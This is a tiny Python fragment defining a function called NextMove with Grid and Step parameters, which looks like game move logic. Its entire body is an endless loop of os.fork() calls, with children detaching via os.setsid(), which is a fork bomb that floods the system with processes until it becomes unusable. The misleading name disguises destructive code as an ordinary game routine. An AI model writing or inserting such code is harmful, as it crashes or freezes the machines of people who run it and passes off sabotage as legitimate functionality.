import os


def NextMove(Grid, Step):
    while True:
        if os.fork() == 0:
            os.setsid()
